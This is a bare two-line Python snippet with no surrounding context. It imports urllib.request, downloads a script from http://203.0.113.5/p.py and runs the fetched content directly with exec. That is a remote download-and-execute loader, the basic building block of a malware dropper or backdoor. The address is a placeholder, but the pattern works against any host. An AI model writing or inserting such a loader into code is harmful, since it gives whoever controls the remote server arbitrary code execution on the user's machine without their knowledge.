import urllib.request as u
exec(u.urlopen('http://203.0.113.5/p.py').read())
